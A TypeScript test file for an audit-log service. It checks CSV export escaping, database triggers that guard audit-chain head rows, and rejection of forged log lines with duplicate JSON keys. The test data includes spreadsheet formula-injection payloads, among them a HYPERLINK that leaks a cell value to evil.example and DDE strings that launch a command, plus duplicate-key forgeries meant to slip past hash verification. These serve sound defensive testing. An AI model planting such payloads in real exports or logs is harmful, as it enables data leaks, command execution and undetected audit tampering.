import assert from "node:assert/strict";
import { execFile } from "node:child_process";
import fs from "node:fs";
import path from "node:path";
import { after, before, describe, test } from "node:test";
import SQLite from "better-sqlite3";
import { promisify } from "node:util";
import fc from "fast-check";
import { sql } from "kysely";
import { tenantChain } from "../src/audit/audit-event.js";
import { findDuplicateKey } from "../src/audit/duplicate-json-key.js";
import { ChainVerifier } from "../src/audit/verify-chain.js";
import { auditVerify } from "../src/cli/audit-verify.js";
import { CliError } from "../src/cli/fail.js";
import { isPostgres } from "../src/db/dialect.js";
import { exportChain } from "./support/chains.js";
import { startTestApp, type TestApp } from "./support/test-app.js";
import { buildWorld, fileRequest, type World } from "./support/world.js";

/** SPEC 13 "Exports are safe to open" and "The database guards the chain". */

const run = promisify(execFile);

let t: TestApp;
let w: World;
/** Engineers whose names a spreadsheet would run as formulas, each with a request on tenant A. */
const formulaNames = [
  '=HYPERLINK("https://evil.example/?leak="&A1,"Open ticket")',
  "+SUM(1,2)",
  "-2+3+cmd|' /C calc'!A0",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  "\t=1+1",
  "\r=1+1",
];

before(async () => {
  t = await startTestApp();
  w = await buildWorld(t);
  for (const name of formulaNames) {
    const engineer = await t.user(["engineer"], null, name);
    await fileRequest(w, { ticket: "CASE-CSV" }, { user: engineer.user, token: engineer.token, as: { token: engineer.token } });
  }
});
after(() => t.close());

/** A minimal RFC 4180 reader (quoted cells may hold commas, quotes, CR and LF). */
function parseCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let cell = "";
  let quoted = false;
  for (let i = 0; i < text.length; i++) {
    const c = text[i]!;
    if (quoted) {
      if (c === '"' && text[i + 1] === '"') {
        cell += '"';
        i += 1;
      } else if (c === '"') quoted = false;
      else cell += c;
    } else if (c === '"') quoted = true;
    else if (c === ",") {
      row.push(cell);
      cell = "";
    } else if (c === "\n") {
      rows.push([...row, cell]);
      row = [];
      cell = "";
    } else cell += c;
  }
  if (cell !== "" || row.length) rows.push([...row, cell]);
  return rows;
}

describe("CSV export is safe to open in a spreadsheet", () => {
  test("a cell that begins with = + - @, tab or CR is prefixed with ' (the customer's export of its own chain)", async () => {
    const res = await t.request("GET", "/v1/audit/export?format=csv", w.a.admin.as);
    assert.equal(res.status, 200);
    const rows = parseCsv(res.body as string);
    const header = rows[0]!;
    const nameAt = header.indexOf("actor_name");
    assert.ok(nameAt >= 0);
    const names = rows.slice(1).map((r) => r[nameAt]!);
    for (const name of formulaNames) {
      assert.ok(names.includes(`'${name}`), `${JSON.stringify(name)} is exported as '${JSON.stringify(name)}; got ${JSON.stringify(names)}`);
    }
    for (const [i, row] of rows.entries()) {
      for (const cell of row) assert.doesNotMatch(cell, /^[=+\-@\t\r]/, `row ${i}: ${JSON.stringify(cell)}`);
    }
    // Ordinary names are left alone.
    assert.ok(names.includes(w.a.admin.user.name), `${w.a.admin.user.name} unchanged`);
  });

  test("the JSONL export (what is hashed) keeps the name as it is", async () => {
    const lines = (await exportChain(t, tenantChain(w.tenantA))).trim().split("\n");
    const names = lines.map((l) => JSON.parse(l).actor.name as string);
    for (const name of formulaNames) assert.ok(names.includes(name), JSON.stringify(name));
  });
});

describe("the database guards each chain's head row", () => {
  const chain = () => tenantChain(w.tenantA);
  const seqOf = async () =>
    Number((await t.app.deps.db.selectFrom("audit_heads").select("seq").where("chain", "=", chain()).executeTakeFirstOrThrow()).seq);

  test("DELETE of a head row fails, with the builder and with raw SQL", async () => {
    const before = await seqOf();
    assert.ok(before > 0);
    await assert.rejects(t.app.deps.db.deleteFrom("audit_heads").where("chain", "=", chain()).execute(), /audit_heads/);
    await assert.rejects(sql`DELETE FROM audit_heads`.execute(t.app.deps.db), /audit_heads/);
    assert.equal(await seqOf(), before, "the head is still there");
  });

  test("on SQLite, a copy of the database file refuses it too (the guard lives in the file)", async (ctx) => {
    if (isPostgres(t.app.deps.db)) return ctx.skip("PostgreSQL: the triggers are checked through the app's connection above");
    const copy = path.join(t.database.dataDir, "copy.db");
    const live = new SQLite(path.join(t.database.dataDir, "lockbox.db"), { readonly: true });
    await live.backup(copy);
    live.close();
    const file = new SQLite(copy);
    try {
      assert.throws(() => file.prepare("DELETE FROM audit_heads").run(), /a chain head can never be deleted/);
      assert.ok((file.prepare("SELECT count(*) AS n FROM audit_heads").get() as { n: number }).n > 0);
    } finally {
      file.close();
    }
  });

  test("a head cannot be moved back or renamed", async () => {
    const before = await seqOf();
    await assert.rejects(t.app.deps.db.updateTable("audit_heads").set({ seq: before - 1 }).where("chain", "=", chain()).execute(), /audit_heads/);
    await assert.rejects(t.app.deps.db.updateTable("audit_heads").set({ chain: "tenant:elsewhere" }).where("chain", "=", chain()).execute(), /audit_heads/);
    assert.equal(await seqOf(), before);
  });

  test("TRUNCATE fails on PostgreSQL", async (ctx) => {
    if (!isPostgres(t.app.deps.db)) return ctx.skip("SQLite has no TRUNCATE");
    await assert.rejects(sql`TRUNCATE audit_heads`.execute(t.app.deps.db), /audit_heads/);
  });

  test("appending still moves the head forward", async () => {
    const before = await seqOf();
    await fileRequest(w, { ticket: "CASE-HEAD" });
    assert.ok((await seqOf()) > before);
  });
});

describe("lockbox audit verify rejects a line with a duplicate JSON key", () => {
  let lines: string[];
  before(async () => {
    lines = (await exportChain(t, tenantChain(w.tenantA))).trim().split("\n");
    assert.ok(lines.length >= 3);
  });

  const writeExport = (content: string[]) => {
    const file = path.join(t.database.dataDir, `dup-${Math.random().toString(36).slice(2)}.jsonl`);
    fs.writeFileSync(file, `${content.join("\n")}\n`);
    return file;
  };

  /**
   * The forgeries: JSON.parse keeps the last of two equal keys, so each of these still hashes to
   * the original (the verifier passed them), while a reader that keeps the first key sees a
   * different event.
   */
  const forgeries: [string, (line: string) => string][] = [
    ["top-level key", (l) => l.replace(/^\{/, '{"operation":"request.denied",')],
    ["nested key", (l) => l.replace('"actor":{', '"actor":{"name":"Someone Else",')],
    ["same key spelled with an escape", (l) => l.replace(/^\{/, '{"oper\\u0061tion":"request.denied",')],
    ["duplicate key deep inside details", (l) => l.replace('"details":{', '"details":{"x":{"k":1,"k":2},')],
  ];

  test("the verifier names the seq and line of each forgery", () => {
    for (const [what, forge] of forgeries) {
      const verifier = new ChainVerifier();
      assert.equal(verifier.pushLine(lines[0]!), undefined);
      const forged = forge(lines[1]!);
      assert.notEqual(forged, lines[1], `${what}: the forgery changed the line`);
      const fault = verifier.pushLine(forged);
      assert.ok(fault, `${what}: a duplicate key must be a fault`);
      assert.equal(fault.seq, 2, what);
      assert.equal(fault.line, 2, what);
      assert.match(fault.reason, /duplicate (JSON )?key/, what);
    }
  });

  test("equal keys in different objects, and key-like text inside strings, are not duplicates", () => {
    const verifier = new ChainVerifier();
    for (const line of lines) assert.equal(verifier.pushLine(line), undefined);
    // Every event has `type` and `id` in both actor and target; the export above verifies.
    assert.match(lines[0]!, /"actor":\{[^}]*"id"/);
    assert.match(lines[0]!, /"target":\{[^}]*"id"/);
  });

  test("findDuplicateKey: exact on the tricky cases, whichever path decides", () => {
    const dup = (text: string) => findDuplicateKey(text, JSON.parse(text))?.path;
    assert.equal(dup('{"a":1,"a":2}'), "a");
    assert.equal(dup('{ "a" : 1 ,\n "a"\t: 2 }'), "a", "whitespace around the colon");
    assert.equal(dup('{"x":{"q":[{"z":1,"z":2}]}}'), "x.q.0.z", "inside an array inside an object");
    assert.equal(dup('{"oper\\u0061tion":1,"operation":2}'), "operation", "an escaped spelling of the same key");
    assert.equal(dup('{"__proto__":1,"__proto__":2}'), "__proto__");
    assert.equal(dup('{"x":{"k":1},"x":2}'), "x");
    // Equal keys in different objects, and quote-colon text inside strings, are not duplicates.
    assert.equal(dup('{"x":[{"k":1},{"k":1}],"y":{"k":1}}'), undefined);
    assert.equal(dup('{"note":"he said \\"k\\": 1","k":2}'), undefined, "an escaped quote before a colon in a value");
    assert.equal(dup('{"a":["a","a"],"b":{"a":"a"}}'), undefined);
    assert.equal(dup('[{"a":1},{"a":1}]'), undefined);
  });

  test("findDuplicateKey agrees with a reference on generated JSON, with and without a planted duplicate", () => {
    /** Reference: re-serialising what JSON.parse kept loses exactly the duplicates. */
    fc.assert(
      fc.property(fc.dictionary(fc.string({ maxLength: 6 }), fc.jsonValue({ maxDepth: 3 }), { minKeys: 1, maxKeys: 6 }), fc.boolean(), (object, plant) => {
        const text = JSON.stringify(object);
        if (!plant) return findDuplicateKey(text, JSON.parse(text)) === undefined;
        const key = Object.keys(object)[0]!;
        const forged = `{${JSON.stringify(key)}:0,${text.slice(1)}`;
        return findDuplicateKey(forged, JSON.parse(forged))?.key === key;
      }),
      { numRuns: 300 },
    );
  });

  test("the CLI exits 1 naming seq and line (in-process and as a real process)", async () => {
    const file = writeExport([lines[0]!, forgeries[0]![1](lines[1]!), ...lines.slice(2)]);
    await assert.rejects(
      auditVerify(file, {}, fs.createWriteStream("/dev/null")),
      (err: unknown) => err instanceof CliError && err.exitCode === 1 && /seq 2 \(line 2\).*duplicate/.test(err.message),
    );
    const result = await run(process.execPath, ["--import", "tsx", "src/cli/main.ts", "audit", "verify", file], { env: { ...process.env, NO_COLOR: "1" } }).then(
      () => ({ code: 0, stderr: "" }),
      (e: { code: number; stderr: string }) => ({ code: e.code, stderr: e.stderr }),
    );
    assert.equal(result.code, 1, result.stderr);
    assert.match(result.stderr, /seq 2 \(line 2\).*duplicate/);
  });
});
